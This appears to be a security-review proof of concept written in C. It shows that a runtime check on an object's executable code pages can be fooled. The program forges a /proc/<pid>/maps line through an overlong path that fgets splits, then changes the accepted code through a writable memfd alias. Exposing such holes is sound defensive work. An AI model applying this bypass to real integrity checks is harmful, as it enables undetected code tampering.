/* Review 13b: bh_object_file_code (runtime/object-file.c, piece 6's look
 * before an object's code becomes executable) fooled by a forged line of
 * /proc/<pid>/maps, natively. mapped_code() reads the maps file with
 * fgets into a 4224-byte buffer and does not skip the rest of a longer
 * line, so the tail of a mapping's path is read as a line of its own. The
 * object's marked code pages are replaced by a shared memory file holding
 * the file's bytes (readable only there, writable at an alias), and a file
 * is mapped whose path puts "LO-HI r--p OFF MAJ:MIN INO" (the object's
 * file, its code's offset) at the start of the line's second fgets piece.
 * The look accepts the pages; the alias then changes the code after it.
 * argv[1] libvault.so. */
#define _GNU_SOURCE
#include "../../../runtime/internal.h"

#include <stdio.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#include "map-object.h"
#include "long-path.h"

static int forge_maps(const char *text) {
  enum { CHUNK = 4096 + 128 - 1 };
  int col = path_column();
  char top[4096];
  if (col < 0 || !getcwd(top, sizeof top - 32))
    return -1;
  strcat(top, "/review13b-maps");
  mkdir(top, 0700);
  int dir = open(top, O_PATH | O_DIRECTORY | O_CLOEXEC);
  size_t len = strlen(top) + 1;
  dir = pad_to(dir, &len, col, CHUNK);
  if (dir < 0)
    return -1;
  char head[256];
  snprintf(head, sizeof head, "%s hhhhhhhh", text);
  mkdirat(dir, head, 0700);
  int fd = openat(dir, head, O_PATH | O_DIRECTORY | O_CLOEXEC);
  close(dir);
  if (fd < 0)
    return -1;
  int f = openat(fd, "f", O_CREAT | O_RDWR | O_CLOEXEC, 0600);
  close(fd);
  if (f < 0 || ftruncate(f, 4096))
    return -1;
  void *m = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, f, 0);
  close(f);
  return m == MAP_FAILED ? -1 : 0;
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  map_object(argv[1]);
  int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
  Elf64_Ehdr eh;
  Elf64_Phdr ph[32];
  struct stat st;
  read_headers(fd, &eh, ph);
  if (fstat(fd, &st))
    return 3;
  uintptr_t lo = 0, hi = 0, off = 0;
  for (int i = 0; i < eh.e_phnum; i++)
    if (ph[i].p_type == PT_LOAD &&
        ph[i].p_flags & BH_PF_EXEC_AFTER_REGISTRATION) {
      load_pages(&ph[i], &lo, &hi);
      off = ph[i].p_offset & ~4095ul;
    }
  if (!lo)
    return 3;
  const char *why = "";
  printf("as mapped: %d\n", bh_object_file_code(getpid(), base, lo, hi, &why));
  /* The code pages: a shared memory file with the file's bytes, readable
   * only here, writable at an alias. */
  size_t n = hi - lo;
  int mfd = memfd_create("review13b-code", MFD_CLOEXEC);
  char *alias = MAP_FAILED;
  if (mfd >= 0 && !ftruncate(mfd, (off_t)n))
    alias = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_SHARED, mfd, 0);
  if (alias == MAP_FAILED)
    return 3;
  memcpy(alias, (void *)lo, n);
  if (mmap((void *)lo, n, PROT_READ, MAP_SHARED | MAP_FIXED, mfd, 0) !=
      (void *)lo)
    return 3;
  int r = bh_object_file_code(getpid(), base, lo, hi, &why);
  printf("a shared memory file with the file's bytes: %d%s%s\n", r,
         r ? ", " : "", r ? why : "");
  char text[200];
  snprintf(text, sizeof text, "%lx-%lx r--p %08lx %02x:%02x %lu",
           (unsigned long)lo, (unsigned long)hi, (unsigned long)off,
           major(st.st_dev), minor(st.st_dev), (unsigned long)st.st_ino);
  printf("forged line mapped: %d\n", forge_maps(text));
  r = bh_object_file_code(getpid(), base, lo, hi, &why);
  printf("with the forged line: %d%s%s\n", r, r ? ", " : "", r ? why : "");
  if (!r) {
    alias[0] ^= 0xff; /* after the look: the code is not the file's */
    printf("code changed after the look through its alias: %d\n",
           ((unsigned char *)lo)[0] == (unsigned char)alias[0]);
  }
  return 0;
}
